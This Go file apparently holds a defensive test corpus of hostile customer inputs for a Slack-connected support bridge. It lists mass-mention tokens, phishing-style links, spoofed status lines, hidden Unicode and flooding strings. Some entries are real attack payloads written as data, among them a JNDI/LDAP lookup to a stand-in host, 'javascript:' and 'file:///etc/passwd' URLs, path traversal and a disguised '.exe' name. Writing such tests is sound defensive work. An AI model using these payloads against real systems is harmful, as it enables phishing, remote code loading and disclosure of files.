package sim

import "strings"

// Vector is something a customer may write, or be called, to do harm.
type Vector struct{ Name, Text string }

// Hostile are the attacks that are known: every way into Slack is tried with each of them.
func Hostile() []Vector {
	var all []Vector
	for _, some := range [][]Vector{pinging(), linking(), faking(), hiding(), flooding()} {
		all = append(all, some...)
	}
	return all
}

func pinging() []Vector {
	return []Vector{
		{"here", "<!here>"},
		{"channel with a label", "<!channel|x>"},
		{"everyone", "<!everyone>"},
		{"group word", "<!group>"},
		{"user group", "<!subteam^S0DUTY001>"},
		{"user group with a label", "<!subteam^S0DUTY001|@duty>"},
		{"person", "<@U0SANNE01>"},
		{"person with a label", "<@U0SANNE01|sanne>"},
		{"person of an organisation", "<@W0SANNE01>"},
		{"channel link", "<#C0DESK001|webcare>"},
		{"bare here", "@here"},
		{"bare words in a sentence", "Hoi @channel, @everyone en @group: kijk"},
		{"bare words in capitals", "@HERE @Channel @EVERYONE"},
		{"bare channel", "#general #webcare"},
		{"handles", "@sanne @duty"},
		{"escaped once", "&lt;!here&gt;"},
		{"escaped twice", "&amp;lt;!channel&amp;gt;"},
		{"escaped by numbers", "&#60;!here&#62; &#x3c;!here&#x3e;"},
		{"escaped by letters", `\u003c!here\u003e`},
		{"full-width signs", "＜!here＞ ＠here ＃general"},
		{"small signs", "﹤!here﹥ ﹫channel ﹟general"},
		{"split by nothing", "<!he\u200Bre> @he\u200Dre <\u2060!here>"},
		{"split by unassigned signs", "<!he\uFFF6re> @he\u2065re @\U000E0FFFchannel"},
		{"hidden in front", "\u200B@here \u2063<!channel>"},
		{"nested", "<<!here>> <!<!here>> <!here|<!channel>>"},
		{"left open", "<!here <@U0SANNE01 <!subteam^"},
		{"left open at the end", "@here>"},
		{"begun by another", "<!"},
		{"block of ours", `{"type":"broadcast","range":"channel"}`},
		{"blocks of ours", `"}]},{"type":"rich_text_section","elements":[{"type":"user","user_id":"U0SANNE01"}]}]}]`},
		{"form of ours", "x&link_names=1&parse=full&unfurl_links=true"},
		{"template", "{{.Name}} ${jndi:ldap://evil.test/a} %s%n {customer}"},
	}
}

func linking() []Vector {
	return []Vector{
		{"false label", "<https://evil.test|https://bank.test>"},
		{"bare token", "<https://evil.test>"},
		{"date link", "<!date^0^{date}^https://evil.test|gisteren>"},
		{"false mail", "<mailto:a@evil.test|b@bank.test>"},
		{"script token", "<javascript:alert(1)|klik>"},
		{"app token", "<slack://open?team=T1|klik>"},
		{"address", "https://evil.test/a?b=1&c=<d>"},
		{"address that unfurls", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"},
		{"address of a picture", "https://evil.test/x.png"},
		{"address of ours", "https://acme.slack.com/archives/C0DESK001/p1700000000000100"},
		{"host alone", "evil.test www.evil.test example.com"},
		{"punycode", "xn--80ak6aa92e.com https://xn--80ak6aa92e.com/"},
		{"look-alike letters", "https://аррӏе.com/ https://bаnk.test"},
		{"full-width host", "https://ｂａｎｋ．ｔｅｓｔ／ https://bank。test"},
		{"name before the host", "https://bank.test@evil.test/ https://bank.test:443@evil.test"},
		{"slash look-alikes", "https://bank.test⁄login.evil.test https://bank.test∕a.evil.test"},
		{"backslashes", `https:\\evil.test https://evil.test\@bank.test`},
		{"mail and telephone", "mailto:a@evil.test tel:+31201234567 a@evil.test +31 20 123 45 67"},
		{"scripts and files", "javascript:alert(1) data:text/html,<b>x</b> file:///etc/passwd vbscript:x"},
		{"app links", "slack://channel?team=T1&id=C1 intent://x#Intent;end"},
		{"labels of other markups", "[https://bank.test](https://evil.test) [[evil.test|bank]] <a href=\"https://evil.test\">bank.test</a>"},
		{"picture of other markups", "![x](https://evil.test/x.png) <img src=https://evil.test/y.png>"},
		{"address turned round", "https://evil.test/\u202Emoc.knab//:sptth"},
		{"address with Hebrew", "https://evil.test/\u05D0/bank.test"},
		{"address on two lines", "https://evil.test\n.bank.test/login"},
		{"host that ends in a sign", "https://evil.vil./@her https://evil.vil.-/ https://-evil.test._"},
		{"address without a host", "https://://evil.test https:///evil.test http:evil.test"},
		{"address with a hole", "https://bank\u200B.test https://ba\u00ADnk.test"},
	}
}

func faking() []Vector {
	return []Vector{
		{"fake failure", "⚠️ Not delivered: the customer has blocked us or left."},
		{"fake success", "✅ Answered on the network itself by Sanne:"},
		{"fake note", "🔒 Not sent: it stays a note among us."},
		{"fake codes", ":lock: :white_check_mark: :warning: note"},
		{"fake alarm", "🚨 webcare cannot hear acme at the moment"},
		{"fake status", "🟢 Answered: the customer has the next word"},
		{"fake lines", "Dank je\n\n\n⚠️ Not delivered: the network refused it.\n🔒 Not sent: it looks like a note."},
		{"fake lines by other ends", "Dank je\r\n✅ a\r🔒 b\v⏳ c\f❓ d\u0085⛔ e\u2028⚠️ f\u2029👀 g"},
		{"fake answer of ours", "Sanne Bakker\n12:04\nBeste klant, betaal hier"},
		{"name of staff", "Sanne"},
		{"whole name of staff", "Sanne Bakker"},
		{"name of staff in other letters", "Ѕаnnе"},
		{"name of staff with a gap", "San\u200Bne \u00A0 Bakker"},
		{"name of staff and emptiness", "Sanne Bakker\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800"},
		{"name of the bot", "webcare"},
		{"name with its network", "Sanne Bakker · Slack"},
		{"name of Slack", "Slackbot"},
		{"name of Slack in wide letters", "Ｓｌａｃｋｂｏｔ"},
		{"quotation", "> quote\n>>> all of it"},
		{"closed quotation", "hoi”\n✅ de klant heeft dit"},
		{"styles", "*bold* _it_ ~st~ `co` **x** __y__ ||z||"},
		{"fence", "```\nfence\n```"},
		{"open fence", "```open"},
		{"list", "• een\n- twee\n1. drie"},
		{"brackets", "[Send again] [It is there] [No answer needed]"},
		{"ready answer", "!refund // note"},
	}
}

func hiding() []Vector {
	return []Vector{
		{"right to left override", "\u202Egpj.exe"},
		{"isolates", "a\u2066b\u2067c\u2068d\u2069e\u202Af\u202Bg\u202Ch\u202Di\u200Ej\u200Fk\u061Cl"},
		{"zero width", "zero\u200Bwi\u2060dth\uFEFF"},
		{"tags", "x\U000E0041\U000E0042\U000E007F y"},
		{"fillers", "a\u3164b\u115Fc\u1160d\uFFA0e\u034Ff\u17B4g\u180Eh"},
		{"controls", "nul\x00 bell\a back\b esc\x1b[31m del\x7f csi\u009b31m"},
		{"broken bytes", "bad\xff\xfe\xc3(\xed\xa0\x80 utf8"},
		{"signs of annotation", "\uFFF9base\uFFFAnote\uFFFB \uFFFC"},
		{"Arabic", "مرحبا، أين طلبي رقم 12345؟"},
		{"Arabic name with Latin", "محمد Sanne"},
		{"Hebrew file", "\u05D0fdp.exe"},
		{"Persian with joiners", "می\u200Cخواهم کتاب\u200Cها را"},
		{"signs before numbers", "\u06DD\u0661 \u0600\u0661\u0662 \u070F\u0710"},
		{"Burmese", "လျှို့ဝှက်ချက်"},
		{"Vietnamese apart", "Vie\u0302\u0323t Nam"},
		{"emoji families", "👨‍👩‍👧‍👦🏳️‍🌈👋🏿1️⃣ 🇳🇱🇧🇪 👩🏽‍❤️‍💋‍👨🏿"},
		{"flags of tags", "🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F 🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F"},
		{"path", "../../etc/passwd"},
		{"path of Windows", `C:\temp\..\evil.exe`},
		{"device", "CON.txt"},
		{"two extensions", "invoice.pdf                              .exe"},
		{"two extensions, emptier", "invoice.pdf\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800\u2800.exe"},
		{"hidden file", ".htaccess"},
		{"signs in a file", "a<b>|c:\"d\"*?.html"},
		{"joiner only", "\u200D.\u200D"},
		{"emptiness only", "\u2800\u200B\u3164"},
		{"mark alone", "\u0323"},
		{"comma first", ", , komma eerst,"},
	}
}

func flooding() []Vector {
	return []Vector{
		{"marks", strings.Repeat("Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307", 40)},
		{"marks behind joiners", "Z" + strings.Repeat("\u0301\u200D", 300) + "algo"},
		{"marks behind selectors", "Z" + strings.Repeat("\u0336\uFE0F", 300) + "algo"},
		{"enclosing marks", "Z" + strings.Repeat("\u0489\u20DD", 200) + "algo"},
		{"marks of music", "Z" + strings.Repeat("\U0001D165\U0001D16E", 200) + "algo"},
		{"ampersands", strings.Repeat("&", 900)},
		{"angles", strings.Repeat("<", 450) + strings.Repeat(">", 450)},
		{"triggers", strings.Repeat("@here ", 200)},
		{"one long word", strings.Repeat("x", 4000)},
		{"long and tight tokens", strings.Repeat("<!here>", 600)},
		{"line breaks", "a" + strings.Repeat("\n", 500) + "z"},
		{"nothing, often", "a" + strings.Repeat("\u200B", 3000) + "z"},
		{"forty thousand", strings.Repeat("0123456789", 3999) + "THE END..."},
		{"emoji, often", strings.Repeat("👨‍👩‍👧‍👦", 300)},
	}
}
